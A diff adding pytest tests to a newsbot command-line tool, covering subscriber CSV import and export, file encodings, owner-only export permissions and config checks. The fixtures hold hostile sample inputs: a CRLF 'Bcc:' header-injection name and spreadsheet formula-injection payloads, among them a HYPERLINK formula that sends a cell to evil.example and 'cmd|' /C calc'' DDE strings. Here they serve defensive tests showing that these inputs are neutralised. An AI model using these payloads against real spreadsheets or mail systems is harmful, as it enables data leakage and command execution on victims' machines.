@@ -2,15 +2,19 @@
 
 from __future__ import annotations
 
+import csv
 import os
 import re
+import stat
 import subprocess
 import sys
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
 
 from bot.cli import main
+from bot.store import open_store
 from bot.summarize import split_sentences
 from bot.telegram_html import validate, visible_length
 from bot.xtext import weighted_length
@@ -221,3 +225,274 @@ def test_subscribers_unsubscribe_with_a_malformed_address_exits_2_naming_it(tmp_
     assert "email 'not an address': That email address contains spaces" in done.stdout
     missing = newsbot("subscribers", "unsubscribe", "ann@example.org", cwd=tmp_path)
     assert missing.returncode == 2 and "--channel" in missing.stderr
+
+
+# --- subscribers import: names, encodings, oversized fields ---------------------------------------------------
+
+
+def email_export(tmp_path: Path) -> list[dict[str, str]]:
+    """The rows of `subscribers export --channel email`, read as a spreadsheet would (CR and LF kept as written)."""
+    exported = newsbot("subscribers", "export", "--channel", "email", "--output", "export.csv", cwd=tmp_path)
+    assert exported.returncode == 0, exported.stderr
+    with (tmp_path / "export.csv").open(encoding="utf-8", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def test_import_checks_each_name_and_imports_a_bad_ones_subscriber_without_it(tmp_path: Path) -> None:
+    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
+    (tmp_path / "readers.csv").write_text(
+        "email,hashtags,name\n"
+        "ann@example.org,#Climate,Ann  Lee\n"
+        'mallory@example.org,,"Mallory\r\nBcc: victim@example.net"\n'
+        f"long@example.org,,{'L' * 101}\n",
+        encoding="utf-8",
+        newline="",
+    )
+    done = newsbot("subscribers", "import", "--channel", "email", "--confirmed", "readers.csv", cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.splitlines() == [
+        "readers.csv: 3 added, 0 updated, 0 skipped; 2 name(s) left out",
+        "  line 3: name 'Mallory??Bcc: victim@example.net' left out: The name can have letters, digits, spaces,"
+        ' dots, hyphens and apostrophes, but not quotes, brackets, "=?", @, commas or control characters.',
+        f"  line 5: name '{'L' * 59}…' left out: Please keep the name to 100 characters.",  # 3 and 4 are one row
+    ]
+    names = {row["email"]: row["name"] for row in email_export(tmp_path)}
+    assert names == {"ann@example.org": "Ann Lee", "mallory@example.org": "", "long@example.org": ""}
+
+
+FORMULAS = {
+    "eq@example.org": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "plus@example.org": "+cmd|' /C calc'!A0",
+    "minus@example.org": "-2+3+cmd|' /C calc'!A0",
+    "at@example.org": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab@example.org": "\t=1+1",
+    "cr@example.org": "\r=1+1",
+    "=1+2@example.org": "Plain Name",
+}
+
+
+def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(tmp_path: Path) -> None:
+    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
+    store = open_store(tmp_path / "newsbot.sqlite")
+    now = datetime.now(UTC)
+    for address, name in FORMULAS.items():  # as the web form of an older newsbot stored them
+        store.request_email_subscription(address, (), now, name=name)
+    store.confirm_email("eq@example.org", now)
+    store.deactivate_subscriber("email", "eq@example.org", "=HYPERLINK(1)", now)
+    store.subscribe("telegram", "-1002003004005", now)
+    store.close()
+
+    rows = {row["email"]: row for row in email_export(tmp_path)}
+
+    assert {address: row["name"] for address, row in rows.items()} == {
+        "eq@example.org": "'" + FORMULAS["eq@example.org"],
+        "plus@example.org": "'" + FORMULAS["plus@example.org"],
+        "minus@example.org": "'" + FORMULAS["minus@example.org"],
+        "at@example.org": "'" + FORMULAS["at@example.org"],
+        "tab@example.org": "'\t=1+1",
+        "cr@example.org": "'\r=1+1",
+        "'=1+2@example.org": "Plain Name",
+    }
+    assert rows["eq@example.org"]["status"] == "'=HYPERLINK(1)"
+    telegram = newsbot("subscribers", "export", cwd=tmp_path).stdout
+    assert telegram.splitlines()[1] == "-1002003004005,,1,"  # a number is not a formula: left as it is
+
+
+def test_an_exported_file_imports_back_to_the_same_names_and_addresses(tmp_path: Path) -> None:
+    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
+    (tmp_path / "readers.csv").write_text(
+        "email,hashtags,name\n"
+        "plus@example.org,#Climate,+cmd|' /C calc'!A0\n"
+        "minus@example.org,,-2+3\n"
+        "=1+2@example.org,,Plain Name\n"
+        "dutch@example.org,,'t Hooft\n",
+        encoding="utf-8",
+    )
+    assert newsbot("subscribers", "import", "--channel", "email", "readers.csv", cwd=tmp_path).returncode == 0
+    first = newsbot("subscribers", "export", "--channel", "email", "--output", "first.csv", cwd=tmp_path)
+    assert first.returncode == 0, first.stderr
+
+    again = newsbot("subscribers", "import", "--channel", "email", "first.csv", cwd=tmp_path)
+
+    assert again.stdout.strip() == "first.csv: 0 added, 4 updated, 0 skipped"
+    names = {row["email"]: row["name"] for row in email_export(tmp_path)}
+    assert names == {
+        "plus@example.org": "'+cmd|' /C calc'!A0",
+        "minus@example.org": "'-2+3",
+        "'=1+2@example.org": "Plain Name",
+        "dutch@example.org": "'t Hooft",
+    }
+    store = open_store(tmp_path / "newsbot.sqlite")
+    stored = {s.address: s.name for s in store.iter_email_subscribers(active_only=False)}
+    store.close()
+    assert stored == {
+        "plus@example.org": "+cmd|' /C calc'!A0",
+        "minus@example.org": "-2+3",
+        "=1+2@example.org": "Plain Name",
+        "dutch@example.org": "'t Hooft",
+    }
+
+
+def test_a_latin_1_file_imports_its_utf_8_lines_and_names_each_other_line(tmp_path: Path) -> None:
+    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
+    (tmp_path / "readers.csv").write_bytes(
+        "email,hashtags,name\nann@example.org,#Climate,Ann\nbea@example.org,,Béatrice\ncid@example.org,,Cid\n".encode(
+            "latin-1"
+        )
+    )
+    done = newsbot("subscribers", "import", "--channel", "email", "readers.csv", cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.splitlines() == [
+        "readers.csv: 2 added, 0 updated, 1 skipped",
+        "  line 3: not UTF-8 (a Latin-1 or Windows-1252 file?); save the file as CSV UTF-8 and import it again",
+    ]
+    assert "Traceback" not in done.stderr
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-8-sig"])
+def test_a_file_with_a_byte_order_mark_is_read_in_its_encoding(tmp_path: Path, encoding: str) -> None:
+    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
+    text = "email,hashtags,name\r\nbea@example.org,#Climate,Béatrice Ōta\r\n"
+    data = text.encode(encoding)
+    if encoding == "utf-16-be":
+        data = b"\xfe\xff" + data  # Python writes no BOM for an explicit byte order; Windows tools do
+    (tmp_path / "readers.csv").write_bytes(data)
+    done = newsbot("subscribers", "import", "--channel", "email", "readers.csv", cwd=tmp_path)
+    assert done.stdout.strip() == "readers.csv: 1 added, 0 updated, 0 skipped", done.stderr
+    assert email_export(tmp_path)[0]["name"] == "Béatrice Ōta"
+
+
+def test_a_utf_16_file_without_a_byte_order_mark_says_how_to_save_it(tmp_path: Path) -> None:
+    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
+    (tmp_path / "readers.csv").write_bytes("email,hashtags,name\nbea@example.org,,Bea\n".encode("utf-16-le"))
+    done = newsbot("subscribers", "import", "--channel", "email", "readers.csv", cwd=tmp_path)
+    assert done.returncode == 2
+    assert done.stderr.strip() == (
+        "newsbot: readers.csv: the header is not UTF-8 text (UTF-16 without a byte order mark?);"
+        " save the file as CSV UTF-8 and import it again"
+    )
+
+
+def test_a_field_over_128_kb_is_reported_and_the_next_lines_are_imported(tmp_path: Path) -> None:
+    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
+    (tmp_path / "big.csv").write_text(
+        "chat_id,hashtags\n1001,#a\n1002," + "#a " * 50_000 + "\n\n1003,#b\n", encoding="utf-8"
+    )
+    done = newsbot("subscribers", "import", "big.csv", cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.splitlines() == [
+        "big.csv: 2 added, 0 updated, 1 skipped",
+        "  line 3: a field is longer than 128 KB",
+    ]
+    assert "Traceback" not in done.stderr
+
+
+def test_export_to_a_file_creates_it_readable_by_the_owner_only(tmp_path: Path) -> None:
+    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
+    (tmp_path / "readers.csv").write_text("email,hashtags,name\nann@example.org,,Ann\n", encoding="utf-8")
+    newsbot("subscribers", "import", "--channel", "email", "readers.csv", cwd=tmp_path)
+    older = tmp_path / "older-export.csv"
+    older.write_text("left by an older newsbot\n", encoding="utf-8")
+    older.chmod(0o644)
+    for output in ("export.csv", "older-export.csv"):
+        done = subprocess.run(
+            [sys.executable, "-m", "bot", "subscribers", "export", "--channel", "email", "--output", output],
+            cwd=tmp_path,
+            env={**os.environ, "PYTHONPATH": str(REPO)},
+            capture_output=True,
+            text=True,
+            umask=0o022,  # what most shells give: without care the file would be 0644
+        )
+        assert done.returncode == 0, done.stderr
+        assert done.stderr.strip() == f"1 subscriber(s) written to {output}"
+        assert oct(stat.S_IMODE((tmp_path / output).stat().st_mode)) == "0o600"
+        lines = (tmp_path / output).read_text(encoding="utf-8").splitlines()
+        assert lines[1] == "ann@example.org,,Ann,0,awaiting confirmation"
+
+
+# --- the command line itself ----------------------------------------------------------------------------------
+
+
+def write_feed_config(tmp_path: Path) -> None:
+    (tmp_path / "feed.xml").write_text(rss([news_item(1)]), encoding="utf-8")
+    (tmp_path / "config.toml").write_text(
+        '[output]\ndry_run = true\n[[sources]]\nname = "f"\nurl = "feed.xml"\nbackfill = 1\n'
+        '[[routes]]\nname = "all"\nhashtags = ["*"]\nchannels = ["telegram"]\n',
+        encoding="utf-8",
+    )
+
+
+@pytest.mark.parametrize("order", [("once", "-v"), ("-v", "once"), ("once", "--verbose")], ids=" ".join)
+def test_verbose_works_before_and_after_the_command(tmp_path: Path, order: tuple[str, ...]) -> None:
+    write_feed_config(tmp_path)
+    done = newsbot(*order, cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert "DEBUG newsbot.ingest event=routed" in done.stderr  # which route took the article, and why
+
+
+def test_without_verbose_there_are_no_debug_lines_and_config_works_after_the_command(tmp_path: Path) -> None:
+    write_feed_config(tmp_path)
+    (tmp_path / "config.toml").rename(tmp_path / "other.toml")
+    done = newsbot("once", "--config", "other.toml", cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert "DEBUG" not in done.stderr
+    nested = newsbot("subscribers", "export", "-v", "--config", "other.toml", cwd=tmp_path)
+    assert nested.returncode == 0, nested.stderr
+
+
+def test_check_config_says_which_secrets_are_optional_for_a_relay_without_login_or_dkim(tmp_path: Path) -> None:
+    (tmp_path / "config.toml").write_text(
+        '[[routes]]\nname = "all"\nhashtags = ["*"]\nchannels = ["email"]\n'
+        '[email]\nsecurity = "none"\nsmtp_host = "localhost"\nsmtp_port = 25\n',
+        encoding="utf-8",
+    )
+    done = newsbot("check-config", cwd=tmp_path, env={"NEWSBOT_SECRET_KEY": "a-secret-long-enough-0123456789"})
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.splitlines()[-4:] == [
+        "  email: $NEWSBOT_SMTP_USERNAME is not set (optional: only if your relay needs a login)",
+        "  email: $NEWSBOT_SMTP_PASSWORD is not set (optional: only with $NEWSBOT_SMTP_USERNAME)",
+        "  email: $NEWSBOT_DKIM_PRIVATE_KEY is not set (optional: only with [email] dkim_selector)",
+        "  email: $NEWSBOT_SECRET_KEY is set (required: signs the links in the mail)",
+    ]
+    assert done.stderr == ""
+
+
+def test_check_config_says_which_secrets_a_login_and_dkim_make_required(tmp_path: Path) -> None:
+    (tmp_path / "config.toml").write_text(
+        '[[routes]]\nname = "all"\nhashtags = ["*"]\nchannels = ["email"]\n[email]\ndkim_selector = "news2026"\n',
+        encoding="utf-8",
+    )
+    env = {"NEWSBOT_SMTP_USERNAME": "mailer", "NEWSBOT_SECRET_KEY": ""}
+    done = newsbot("check-config", cwd=tmp_path, env=env)
+    assert done.returncode == 2
+    assert done.stdout.splitlines()[-4:] == [
+        "  email: $NEWSBOT_SMTP_USERNAME is set (optional: only if your SMTP server needs a login)",
+        "  email: $NEWSBOT_SMTP_PASSWORD is missing (required: $NEWSBOT_SMTP_USERNAME is set)",
+        "  email: $NEWSBOT_DKIM_PRIVATE_KEY is missing (required: [email] dkim_selector is set)",
+        "  email: $NEWSBOT_SECRET_KEY is missing (required: signs the links in the mail)",
+    ]
+    assert done.stderr.strip() == (
+        "newsbot: set the missing environment variable(s):"
+        " NEWSBOT_SMTP_PASSWORD, NEWSBOT_DKIM_PRIVATE_KEY, NEWSBOT_SECRET_KEY"
+    )
+
+
+def test_export_into_a_pipe_closed_early_ends_quietly(tmp_path: Path) -> None:
+    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
+    rows = "".join(f"{1_000_000 + n},#Climate #Science\n" for n in range(20_000))  # far more than a pipe holds
+    (tmp_path / "many.csv").write_text("chat_id,hashtags\n" + rows, encoding="utf-8")
+    assert newsbot("subscribers", "import", "many.csv", cwd=tmp_path).returncode == 0
+    # As `newsbot subscribers export | head -1`: the reader takes one line and goes away.
+    export = subprocess.Popen(
+        [sys.executable, "-m", "bot", "subscribers", "export"],
+        cwd=tmp_path,
+        env={**os.environ, "PYTHONPATH": str(REPO)},
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+    )
+    assert export.stdout is not None and export.stderr is not None
+    assert export.stdout.readline() == b"chat_id,hashtags,active,status\r\n"
+    export.stdout.close()
+    errors = export.stderr.read().decode()
+    assert export.wait(timeout=60) == 141  # as a shell reports a command ended by SIGPIPE
+    assert errors == ""
